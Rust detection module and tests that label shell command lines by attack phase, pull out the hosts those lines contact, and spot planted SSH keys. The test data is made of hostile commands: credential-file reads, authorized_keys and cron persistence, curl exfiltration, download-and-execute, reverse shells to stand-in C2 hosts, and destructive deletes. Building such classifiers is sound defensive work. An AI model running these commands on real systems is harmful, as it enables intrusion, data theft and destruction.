//! What a line typed into a shell tells: the phase it belongs to, whom it calls, which key it plants.
//!
//! Lines are read as words, not run: quoting, variables and encodings hide things from it, and nothing it says is ever
//! more than evidence.

mod endpoints;
mod phase;

pub use endpoints::endpoints;
pub use phase::phase_of;

/// Bytes of a line that are read.
const READ: usize = 4_096;

/// The public key the line plants, as it stands in `authorized_keys`: the part in base64.
pub fn planted_key(line: &str) -> Option<&str> {
    let mut words = line.split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '\\'));
    words.by_ref().find(|word| {
        word.starts_with("ssh-")
            || word.starts_with("ecdsa-sha2-")
            || word.starts_with("sk-ssh-")
            || word.starts_with("sk-ecdsa-")
    })?;
    let key = words.find(|word| !word.is_empty())?;
    let base64 = |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'=');
    (key.len() >= 40 && key.starts_with("AAAA") && key.bytes().all(base64)).then_some(key)
}

fn cut(line: &str) -> &str {
    &line[..line.floor_char_boundary(READ)]
}

/// The commands of a line, each as its words.
fn pieces(line: &str) -> impl Iterator<Item = Vec<&str>> {
    let commands = line.split([';', '|', '&', '\n', '`', '(', ')', '{', '}']);
    commands.map(|command| {
        command
            .split_whitespace()
            .map(|word| word.trim_matches(['"', '\'']))
            .collect()
    })
}

/// A command without its folder, unless it lies in a folder of its own making.
fn name(word: &str) -> &str {
    let tail = word.rsplit('/').next().unwrap_or(word);
    if word.starts_with("/bin") || word.starts_with("/usr") || word.starts_with("/sbin") {
        tail
    } else {
        word
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::Phase;

    #[test]
    fn a_line_belongs_to_the_phase_of_what_it_touches() {
        for (line, phase) in [
            ("uname -a", Phase::Discovery),
            ("cat /proc/cpuinfo | grep name | wc -l", Phase::Discovery),
            ("/usr/bin/id", Phase::Discovery),
            ("cat /etc/shadow", Phase::CredentialAccess),
            ("grep -ri password /etc", Phase::CredentialAccess),
            ("echo 'ssh-rsa AAAA' >> ~/.ssh/authorized_keys", Phase::Persistence),
            ("echo '@reboot /tmp/.x' | crontab -", Phase::Persistence),
            ("crontab -l", Phase::Persistence),
            ("ssh -o BatchMode=yes root@10.0.0.5", Phase::LateralMovement),
            ("cat ~/.ssh/known_hosts", Phase::LateralMovement),
            ("sudo -l", Phase::PrivilegeEscalation),
            ("find / -perm -4000 -type f", Phase::PrivilegeEscalation),
            ("tar czf /tmp/d.tgz /var/backups", Phase::Collection),
            ("curl -s -T /tmp/d.tgz http://198.18.0.9/u", Phase::Exfiltration),
            ("cd /tmp; wget http://a.example/x; chmod +x x; ./x", Phase::Execution),
            ("unset HISTFILE", Phase::DefenseEvasion),
            (
                "bash -c 'bash -i >& /dev/tcp/8.8.8.8/443 0>&1'",
                Phase::CommandAndControl,
            ),
            ("kill -9 -1", Phase::Impact),
            ("rm -rf /var/www", Phase::Impact),
        ] {
            assert_eq!(phase_of(line), Some(phase), "{line}");
        }
        for nothing in ["", "   ", "echo hello", "cd /tmp", "exit", ";;|&", "ä\u{0}", "rm -f x"] {
            assert_eq!(phase_of(nothing), None, "{nothing:?}");
        }
    }

    #[test]
    fn whom_a_line_calls_is_found_however_it_is_said() {
        for (line, called) in [
            ("wget http://C2.Example.org/bot.sh -O- | sh", &["c2.example.org"][..]),
            (
                "curl -s https://u:p@c2.example.org:8443/x?y=http",
                &["c2.example.org:8443"],
            ),
            ("bash -i >& /dev/tcp/8.8.8.8/4444 0>&1", &["8.8.8.8:4444"]),
            ("nc -e /bin/sh c2.example.org 9001", &["c2.example.org:9001"]),
            ("wget 8.8.4.4/x; curl c2.example.org/y", &["8.8.4.4", "c2.example.org"]),
            ("curl http://[2a00:1450::1]:80/", &["[2a00:1450::1]:80"]),
            ("x=\"ftp://a.example.net\"; get $x", &["a.example.net"]),
            (
                "./xmrig -o stratum+tcp://pool.example.net:3333",
                &["pool.example.net:3333"],
            ),
        ] {
            assert_eq!(endpoints(line), called, "{line}");
        }
    }

    #[test]
    fn what_only_the_machine_itself_can_reach_is_nobodys_endpoint() {
        for line in [
            "curl http://127.0.0.1:8080/",
            "curl http://localhost/",
            "wget http://192.168.1.1/x",
            "nc -zv 8.8.8.8 22",
            "nc -lvp 4444",
            "curl http://203.0.113.9/u",
            "wget http://printer.local/",
            "curl http://$HOST/x",
            "cat a://b://c",
            "curl http://host:99999/",
            "curl -o file.txt",
        ] {
            assert_eq!(endpoints(line), [""; 0], "{line}");
        }
    }

    #[test]
    fn a_planted_key_is_told_by_what_cannot_be_typed_by_chance() {
        let key = format!("AAAAB3NzaC1yc2E{}", "x".repeat(40));
        let line = format!("echo \"ssh-rsa {key} mdrfckr\">>.ssh/authorized_keys");
        assert_eq!(planted_key(&line), Some(key.as_str()));
        for none in ["ssh-keygen -t rsa", "echo ssh-rsa AAAA", "ssh-rsa", ""] {
            assert_eq!(planted_key(none), None, "{none}");
        }
    }

    proptest::proptest! {
        #[test]
        fn whatever_is_typed_is_read_without_a_fall(line in "\\PC{0,200}") {
            let _ = (phase_of(&line), endpoints(&line), planted_key(&line));
        }
    }
}
